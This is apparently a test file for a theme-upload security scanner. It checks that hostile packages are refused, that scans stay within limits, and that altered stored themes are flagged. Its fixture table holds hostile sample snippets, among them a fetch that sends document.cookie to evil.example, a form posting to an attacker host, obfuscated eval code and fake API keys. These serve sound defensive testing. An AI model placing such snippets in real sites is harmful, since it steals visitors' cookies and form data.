/** Hostile packages: refused with file and reason, by the scan and by the upload, in bounded memory and time. */
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { startTestApp } from '../../../../test/kit/app.ts'
import { hostilePackages } from '../../../../test/kit/hostile-packages.ts'
import { root } from '../../../../test/kit/source.ts'
import { writeZip } from '../../../kernel/zip.ts'
import { readThemeFolder } from '../../../liquid/folder.ts'
import { addTheme } from '../../themes/themes.ts'
import { scanKeptTheme, scanThemePackage } from './scan.ts'

const app = await startTestApp()
const blank = await readThemeFolder(join(root, 'test/themes/blank'))
const folder = mkdtempSync(join(tmpdir(), 'hotswap-scan-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const hostile = Object.entries(await hostilePackages(blank))

const withFile = (path: string, text: string) => new Map([...blank, [path, Buffer.from(text)]])
const HARMLESS = '^$'

async function upload(token: string, archive: Buffer) {
  const boundary = 'package-boundary'
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="theme.zip"\r\ncontent-type: application/zip\r\n\r\n`
  return app.call('/api/v1/themes', {
    method: 'POST',
    token,
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: Buffer.concat([Buffer.from(head), archive, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  })
}

describe('a hostile package', () => {
  for (const [name, { archive, file, reason }] of hostile)
    test(`${name} is found out`, async () => {
      const began = performance.now()
      const report = await scanThemePackage(archive)
      const took = performance.now() - began
      // A second on a machine with nothing else to do; minutes where a pattern runs over the whole file again and again.
      assert.ok(took < 20_000, `it took ${took} ms`)
      if (reason.source === HARMLESS) return assert.equal(report.passed, true, report.summary)
      assert.equal(report.passed, false)
      const found = report.findings.find((finding) => reason.test(finding.reason))
      assert.ok(found, report.summary)
      assert.equal(found.severity, 'block')
      if (file !== '') assert.equal(found.file, file)
    })

  test('is refused by the upload, with file and reason', async () => {
    const { owner } = await app.makeTenant()
    for (const [name, { archive, file, reason }] of hostile) {
      if (reason.source === HARMLESS) continue
      const answer = await upload(owner, archive)
      assert.ok([400, 413].includes(answer.status), `${name}: ${answer.status} ${answer.text.slice(0, 300)}`)
      const errors = (answer.body['errors'] ?? []) as { path: string; message: string }[]
      const said = [String(answer.body['detail']), ...errors.map(({ path, message }) => `${path} ${message}`)]
      assert.ok(
        said.some((text) => reason.test(text)),
        `${name}: ${said.join('\n')}`,
      )
      if (file !== '')
        assert.ok(
          answer.text.includes(JSON.stringify(file).slice(1, -1)),
          `${name}: ${answer.text.slice(0, 300)}`,
        )
    }
    const themes = await app.call('/api/v1/themes?owner=tenant', { token: owner })
    assert.deepEqual(themes.body['items'], [], 'nothing of them is kept')
  })

  test('costs no more memory than its limits say', { timeout: 120_000 }, async () => {
    const script = fileURLToPath(new URL('../../../../test/kit/scan-process.ts', import.meta.url))
    for (const name of [
      'a file of 60 MB',
      'a file that lies about its size',
      '100,000 files',
      'files of 20.4 MB together',
      '1.4 MB of outputs',
    ]) {
      const archive = hostile.find(([each]) => each === name)?.[1].archive
      assert.ok(archive)
      const path = join(folder, 'package.zip')
      writeFileSync(path, archive)
      const { stdout } = await promisify(execFile)(process.execPath, [script, path])
      const { before_bytes, after_bytes } = JSON.parse(stdout) as {
        before_bytes: number
        after_bytes: number
      }
      const grown = Math.round((after_bytes - before_bytes) / 1e6)
      // Measured: at most 5 MB for archives that are refused; 166 MB for the parsed 290,000 outputs.
      assert.ok(grown < (name.endsWith('outputs') ? 260 : 60), `${name}: ${grown} MB more`)
    }
  })

  test('that was changed after it was taken in is found by its hash', async () => {
    const { tenant } = await app.makeTenant()
    const { theme } = await addTheme(app.ctx, tenant.id, blank, 'Test')
    const kept = { hash: theme.hash, owner: 'tenant' } as const
    assert.equal((await scanKeptTheme(app.ctx, tenant.id, kept)).passed, true)
    const other = writeZip(
      [...withFile('assets/theme.css', 'body { display: none }')].map(([path, body]) => ({ path, body })),
    )
    await app.ctx.blobs
      .scope({ tenantId: tenant.id })
      .put(`themes/${theme.hash}.zip`, other, { contentType: 'application/zip' })
    const report = await scanKeptTheme(app.ctx, tenant.id, kept)
    assert.equal(report.passed, false)
    assert.equal(report.findings[0]?.rule, 'wrong_hash')
    assert.match(report.summary, new RegExp(`not ${theme.hash.slice(0, 12)}`))
  })
})

/** Secrets are written in two halves, so that nobody takes this file for a leak. */
const joined = (...halves: string[]) => halves.join('')

/** A file, its text, and the rule that finds it: `block rule line` or `warn rule line`. */
const CONSTRUCTS: Record<string, [string, string, string]> = {
  'a script from elsewhere': ['snippets/x.liquid', '\n<script async src="//cdn.example/x.js"></script>', 'block external_script 2'],
  'an address that runs': ['snippets/x.liquid', '<a href=" javascript:alert(1)">x</a>', 'block javascript_url 1'],
  'an address that is a page': ['snippets/x.liquid', '<a href="data:text/html,x">x</a>', 'block data_page 1'],
  'a form to elsewhere': ['snippets/x.liquid', '\n\n<form method="post" action="https://evil.example/collect">', 'block foreign_form 3'],
  'a button to elsewhere': ['snippets/x.liquid', '<button formaction="//evil.example">', 'block foreign_form 1'],
  'a base elsewhere': ['snippets/x.liquid', '<base href="https://evil.example/">', 'block foreign_base 1'],
  'a redirect of its own': ['snippets/x.liquid', '<meta http-equiv="refresh" content="0; url=https://evil.example">', 'block foreign_refresh 1'],
  'an embedded object': ['snippets/x.liquid', '<object data="x.swf"></object>', 'block embedded_object 1'],
  'a frame from elsewhere': ['snippets/x.liquid', '<iframe src="https://evil.example/x"></iframe>', 'warn foreign_frame 1'],
  'an inline handler': ['snippets/x.liquid', '<img alt="" width="1" onerror="go()">', 'warn inline_handler 1'],
  'what visitors write, raw': ['snippets/x.liquid', '{{ search.query | raw }}', 'warn raw_visitor_text 1'],
  'a loop that cannot end': ['snippets/x.liquid', '{% for i in (1..200000) %}{% endfor %}', 'block endless_loop 1'],
  'eval': ['assets/x.js', 'let a\neval(a)', 'warn code_from_text 2'],
  'a function from text': ['assets/x.js', 'new Function("return 1")', 'warn code_from_text 1'],
  'hidden code': ['assets/x.js', 'eval(atob("YWxlcnQoMSk="))', 'block obfuscated_code 1'],
  'eval in a template': ['snippets/x.liquid', '<script>\neval(name)</script>', 'warn code_from_text 2'],
  'document.write': ['assets/x.js', 'document.write("<b>")', 'warn document_write 1'],
  'code from elsewhere': ['assets/x.js', 'import x from "https://cdn.example/x.js"', 'block external_script 1'],
  'cookies sent away': ['assets/x.js', 'fetch("https://evil.example/?" + document.cookie)', 'block sends_cookies 1'],
  'a request to elsewhere': ['assets/x.js', 'fetch("https://api.example/")', 'warn foreign_request 1'],
  'text that turns around': ['assets/x.js', 'const a = 1 // \u202e }', 'warn hidden_text 1'],
  'a private key': ['assets/x.js', joined('// -----BEGIN RSA ', 'PRIVATE KEY-----'), 'block secret 1'],
  'an AWS key': ['config/settings_data.json', joined('{ "current": { "a": "AKIA', 'IOSFODNN7EXAMPLE" } }'), 'block secret 1'],
  'a GitHub token': ['snippets/x.liquid', joined('{% comment %}ghp', `_${'a1B2'.repeat(9)}{% endcomment %}`), 'block secret 1'],
  'a Slack token': ['assets/x.js', joined('"xoxb', '-123456789012-abcdefghijkl"'), 'block secret 1'],
  'a Stripe key': ['assets/x.js', joined('"sk_li', `ve_${'a1B2'.repeat(6)}"`), 'block secret 1'],
  'a database address': ['README.md', 'postgres://admin:hunter22@db.example/x', 'block secret 1'],
  'a JWT': ['assets/x.js', `"eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(20)}.${'c'.repeat(30)}"`, 'warn secret 1'],
  'a password': ['assets/x.js', 'const password = "correct-horse-battery"', 'warn secret 1'],
} // prettier-ignore

/** What looks like one of them and is none. */
const FINE: Record<string, string> = {
  'snippets/x.liquid':
    '<form action="/search"><input name="q"></form><form action="{{ settings.newsletter_url }}"></form>' +
    '<a href="https://example.org/javascript:no">x</a><a data-on="x" href="mailto:a@b.example">x</a>' +
    '<iframe title="x" src="https://www.youtube-nocookie.com/embed/x"></iframe><base-card></base-card>' +
    '{% for i in (1..12) %}{{ i }}{% endfor %}{{ page.content | raw }}<p>import it from "home"</p><p once="1">x</p>',
  'assets/x.js':
    'import { a } from "./a.js"; fetch("/_content/posts"); const evaluate = (x) => x; setTimeout(() => a(), 5); medieval(1)',
  'assets/x.css': 'a { background: url("x.png") } /* task_live_ AKIA */',
}

describe('the scan', () => {
  for (const [name, [path, text, expected]] of Object.entries(CONSTRUCTS))
    test(`finds ${name}`, async () => {
      const { findings } = await scanThemePackage(withFile(path, text))
      const found = findings
        .filter(({ file }) => file === path)
        .map(({ severity, rule, line }) => `${severity} ${rule} ${line}`)
      assert.ok(found.includes(expected), `${expected} in ${JSON.stringify(findings, undefined, 2)}`)
    })

  test('finds nothing in what only looks like it', async () => {
    const files = new Map(blank)
    for (const [path, text] of Object.entries(FINE)) files.set(path, Buffer.from(text))
    assert.deepEqual((await scanThemePackage(files)).findings, [])
  })

  test('finds nothing in the themes that ship with the program', async () => {
    for (const name of readdirSync(join(root, 'themes'))) {
      const report = await scanThemePackage(await readThemeFolder(join(root, 'themes', name)))
      assert.deepEqual(report.findings, [], name)
      assert.match(report.summary, /^\d+ files were looked over; nothing was found\.$/)
    }
  })

  test('does not repeat secrets, and reports a bounded number', async () => {
    const key = joined('sk_li', `ve_${'a1B2'.repeat(6)}`)
    const { findings } = await scanThemePackage(withFile('assets/x.js', `"${key}"\n`.repeat(5_000)))
    assert.ok(findings.length <= 400, String(findings.length))
    assert.ok(!JSON.stringify(findings).includes(key))
  })
})
